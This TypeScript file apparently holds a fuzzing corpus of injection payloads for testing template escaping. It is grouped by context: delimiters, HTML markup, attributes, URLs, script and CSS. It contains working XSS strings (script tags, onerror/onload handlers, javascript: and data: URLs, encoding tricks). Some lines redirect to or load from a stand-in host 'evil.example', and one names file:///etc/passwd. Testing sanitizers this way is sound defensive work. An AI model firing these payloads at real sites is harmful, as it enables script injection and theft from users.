/** Values that break out of naive templates: by delimiter, by language, by encoding, and the classics of cheat sheets. */

const delimiters = [
  '"', "'", '<', '>', '&', '`', '=', '/', '\\', '\n', '\r', '\t', '\f', ' ', ';', ':', '(', ')', '[', ']', '{', '}', '#', '?', '%', '$', '@',
  '!', '*', '-', '--', '|', '\0', '\u000b', '\u00a0', '\u2028', '\u2029', '\ufeff', '\ud800', '\udfff', '\u0085',
]
const markup = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</p><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '</script><script>alert(1)</script>', '</script >', '</SCRIPT\n>', '/script>', '</style><script>alert(1)</script>', '/style>',
  '</title><script>alert(1)</script>', '</textarea><b>', '/textarea>', '</textarea', '</noscript><img src=x onerror=alert(1)>', '</template><b>',
  '--><script>alert(1)</script>', '--!><b>', '->', '>', '-', '!--', '<!--', '<!--<script>', ']]>', '<![CDATA[', '<?xml ?>', '<!DOCTYPE html>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>', '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input type=submit>', '<x/><y>', '<b', '</', '<', '<!', 'script', '/script', 'ＳＣＲＩＰＴ', '\u212a', '\u017fcript',
]
const attributes = [
  '" onload="alert(1)', "' onload='alert(1)", ' onload=alert(1)', '" autofocus onfocus=alert(1) x="', 'x onmouseover=alert(1) y', '"/onclick=alert(1)/',
  '\tonload=alert(1)', '\nonload=alert(1)', '\fonload=alert(1)', '/onload=alert(1)', 'onclick', 'onclick=alert(1)', 'style', 'style=x', 'srcdoc', 'x=1', '',
  ' ', '" style="color:red', '` onload=alert(1) `', '=', '="',
]
const urls = [
  'javascript:alert(1)', ' javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)',
  '\u0001javascript:alert(1)', '\u0000javascript:alert(1)', '\u001fjavascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)',
  '&#x6a;avascript:1', 'javascript\u003aalert(1)', 'javascript%3Aalert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=',
  'DATA:image/svg+xml,<svg onload=alert(1)>', 'vbscript:x', 'livescript:x', 'mocha:x', 'feed:javascript:alert(1)', 'view-source:javascript:1', 'file:///etc/passwd',
  'blob:x', '//evil.example', '\\\\evil.example', '/\\evil.example', 'http://evil.example/"><script>', 'mailto:a@b?subject=<x>', 'script:alert(1)', ':alert(1)',
  'x:y', '0 http://evil.example 1x, javascript:alert(1) 2x', ', javascript:alert(1) 2x', ' 2x, data:text/html,x', ';url=javascript:alert(1)', '%22', '%', '%zz', '%2', '?a=b&c=d', '#x', '../..', '&quot;', '&#34;', '&lt;', 'quot;', 'lt',
]
const scripts = [
  "'; alert(1); '", '"; alert(1); "', "\\'; alert(1); //", '\\"; alert(1); //', '\\', '\\\\', '${alert(1)}', '`;alert(1)//', ');alert(1);(', '}alert(1);{', '];alert(1);[',
  '//', '/*', '*/', '*/alert(1)/*', '*/alert(1)//', '/;alert(1)//', '/i.exec(alert(1))', ']/;alert(1)//', '(?:', '(', '[', '{1', '\\u0027;alert(1)//', '\\x27',
  'alert(1)', 'alert`1`', '-alert(1)-', '+alert(1)+', ',alert(1),', '\u2028alert(1)', '\u2029alert(1)', '\nalert(1)', '<!--\nalert(1)', '-->\nalert(1)',
  '&quot;;alert(1);&quot;', '&apos;);alert(1);//', '&#39;);alert(1)//', '&#x27;);alert(1)//', "&lpar;", '__proto__', 'constructor', '{"a":1}', '[1]', 'null', 'true', '1', '-1', 'NaN',
]
const styles = [
  'red;background:url(//evil.example)', 'expression(alert(1))', 'url(javascript:alert(1))', ';x:y', '}body{display:none}', 'a}b{c:d', '"}body{x:y}', "';x:y;'", '\\', '\\22 ', '\\"',
  '/**/', '/*', '*/', '@import "//evil.example"', '!important', '-moz-binding:url(x)', 'behavior:url(x)', 'var(--x)', 'calc(1px)', ':hover', ',*', '\n}x{', '\\a }', '<!--', '-->',
]

export const payloads: readonly string[] = [...new Set([...delimiters, ...markup, ...attributes, ...urls, ...scripts, ...styles])]
